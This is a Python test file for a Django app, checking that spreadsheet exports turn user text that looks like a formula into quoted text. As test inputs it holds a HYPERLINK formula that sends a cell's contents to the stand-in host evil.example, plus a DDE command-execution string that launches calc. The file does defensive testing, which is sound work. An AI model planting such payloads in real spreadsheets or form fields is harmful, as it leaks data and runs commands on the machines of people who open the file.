"""Excel exports neutralise formula injection: user text never becomes a formula in Excel."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse
from openpyxl import Workbook

from zhengxian.core.spreadsheets.writer import FORMULA_TRIGGERS, workbook_bytes
from zhengxian.jobs.models import Job
from zhengxian.orgs.importing.template import build_template
from zhengxian.projects.tests.factories import make_project

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'


def _cells(data: bytes, sheet: str | None = None) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheets = [book[sheet]] if sheet else book.worksheets
    return [cell for ws in sheets for row in ws.iter_rows() for cell in row]


def _raw_sheet_xml(data: bytes) -> str:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_a_project_named_like_a_formula_exports_as_text(org, login, today):
    make_project(org, "P-EVIL", name=HOSTILE, location="+cmd|' /C calc'!A0")

    client = login("office")
    client.post(reverse("projects:export"))  # a job, run at once by the tests' task backend
    job = Job.objects.get(kind="projects.export")
    response = client.get(reverse("jobs:job_file", args=[job.pk]))

    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    cells = {cell.value: cell for cell in _cells(data) if isinstance(cell.value, str)}
    for hostile in (HOSTILE, "+cmd|' /C calc'!A0"):
        cell = cells[hostile]  # the text comes back unchanged (the export imports back)
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert "<f>" not in _raw_sheet_xml(data)  # no formula anywhere in the file


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_written_as_quoted_text(trigger):
    book = Workbook()
    book.active.append([f"{trigger}1+1", "plain", -5, -2.5, "中文-名称"])

    cells = _cells(workbook_bytes(book))

    assert cells[0].data_type == "s" and cells[0].quotePrefix
    assert cells[0].value == f"{trigger}1+1"
    assert not cells[1].quotePrefix  # ordinary text is left alone
    assert cells[2].value == -5 and cells[2].data_type == "n"  # negative numbers stay numbers
    assert cells[3].value == -2.5 and cells[3].data_type == "n"
    assert not cells[4].quotePrefix


def test_the_org_import_template_goes_through_the_guard(org, login):
    response = login("office").get(reverse("orgs:import_template", args=["all"]))
    assert response.status_code == 200
    assert "<f>" not in _raw_sheet_xml(response.content)

    # The examples name the user's top unit: a code Excel could read as a formula stays text.
    data = build_template("units", parent_code="=1+1")
    hostile = [cell for cell in _cells(data) if cell.value == "=1+1"]
    assert hostile and all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
